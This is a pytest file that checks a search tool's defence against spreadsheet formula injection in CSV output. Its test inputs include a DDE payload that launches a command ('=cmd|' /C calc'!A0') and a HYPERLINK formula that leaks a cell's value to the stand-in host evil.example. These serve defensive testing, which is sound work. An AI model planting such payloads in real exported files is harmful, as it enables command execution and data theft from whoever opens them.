"""No cell begins a formula, in whatever way a spreadsheet cuts the file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from support.engines import url_in
from support.helped import indexed, made

from index.cli import main
from search.results.spreadsheet import defuse

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "\u200b \u202e=1",
    "\u3000=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert defuse(formula) == "'" + formula.replace("\n=", "\n'=").replace(
        "\t=", "\t'="
    ).replace("\r=", "\r'=")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("cut", [";", "\t", "\n", "\r\n"])
def test_a_formula_behind_a_place_where_others_cut_becomes_text(
    formula: str, cut: str
) -> None:
    _, cell = defuse(f"a{cut}{formula}").split(cut, 1)
    assert cell.lstrip("\t\r\n").startswith("'")


@pytest.mark.parametrize(
    "text", ["", "a-b", "2 + 2 = 4", "a@b.example", "'=1", "it; is", "–1 °C", "é=1"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defuse(text) == text


def test_the_answers_to_a_list_of_queries_are_no_formulas(tmp_path: Path) -> None:
    url = url_in("tantivy", tmp_path / "index")
    indexed(url, [made(1, "=1+1 harbour")]).close()
    queries = tmp_path / "queries.csv"
    queries.write_text('query\n"-harbour +harbour"\nharbour\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["--engine", str(url), "batch", str(queries)])
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][:2] == ["'-harbour +harbour", "0"]
    assert rows[2][:4] == ["harbour", "1", "a001", "'=1+1 harbour"]
